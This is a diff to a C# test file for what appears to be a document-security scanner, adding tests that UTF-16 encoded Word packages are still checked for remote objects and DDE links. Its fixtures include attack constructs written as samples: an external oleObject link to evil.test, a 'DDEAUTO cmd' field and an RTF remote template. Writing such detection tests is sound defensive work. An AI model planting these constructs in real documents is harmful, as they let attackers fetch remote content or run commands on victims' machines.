@@ -1,3 +1,4 @@
+using System.Text;
 using Sekisho.Inspection.Detection.Carriers;
 using Sekisho.SampleMaker;
 
@@ -28,10 +29,40 @@ public class RemoteContentTests
     public void LocalTemplateOrLink_IsNot(string type, string target) =>
         Assert.Empty(Letters.Codes(new RemoteContent(), "a.docx", CarrierWriter.WordPackage($"<Relationship Id=\"r1\" Type=\"{Type}{type}\" Target=\"{target}\" TargetMode=\"External\"/>", "")));
 
+    [Theory]
+    [InlineData(false, true)]
+    [InlineData(true, true)]
+    [InlineData(false, false)]
+    [InlineData(true, false)]
+    public void PackageInUtf16_IsReadToo(bool isBigEndian, bool hasMark)
+    {
+        var relationships = $"<?xml version=\"1.0\" encoding=\"utf-16\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r1\" Type=\"{Type}oleObject\" Target=\"http://evil.test/a\" TargetMode=\"External\"/></Relationships>";
+        var encoding = new UnicodeEncoding(isBigEndian, hasMark);
+        var package = ZipWriter.Plain(
+            ("[Content_Types].xml", "<Types><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>"u8.ToArray()),
+            ("word/document.xml", [.. encoding.GetPreamble(), .. encoding.GetBytes("<?xml version=\"1.0\" encoding=\"utf-16\"?><w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:fldSimple w:instr=\"DDEAUTO cmd\"/></w:document>")]),
+            ("word/_rels/document.xml.rels", [.. encoding.GetPreamble(), .. encoding.GetBytes(relationships)]));
+
+        Assert.Equal(["DOCUMENT_REMOTE_OBJECT"], Letters.Codes(new RemoteContent(), "a.docx", package));
+        Assert.Single(Letters.Codes(new DataExchangeLink(), "a.docx", package));
+    }
+
+    [Fact]
+    public void PageInUtf16_StaysAPartOfItsOwn()
+    {
+        using var message = Letters.OpenDocument("a.docx", OoxmlWith("word/afchunk.htm", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("<html><body><a href='http://evil.test/'>x</a></body></html>")]));
+
+        Assert.Contains(message.Parts, p => p.Name == "word/afchunk.htm");
+    }
+
     [Fact]
     public void RtfTemplate_IsFound() =>
         Assert.Equal(["DOCUMENT_REMOTE_TEMPLATE"], Letters.Codes(new RemoteContent(), "a.doc", @"{\rtf1{\*\template http://evil.test/a.dotm}x}"u8.ToArray()));
 
     [Fact]
     public void WebQuery_IsFound() => Assert.Equal("https://evil.test/q", Assert.Single(Letters.Ask(new RemoteContent(), "a.txt", "WEB\r\n1\r\nhttps://evil.test/q\r\n"u8.ToArray())).Evidence);
+
+    private static byte[] OoxmlWith(string name, byte[] content) => ZipWriter.Plain(
+        ("[Content_Types].xml", "<Types><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>"u8.ToArray()),
+        (name, content));
 }
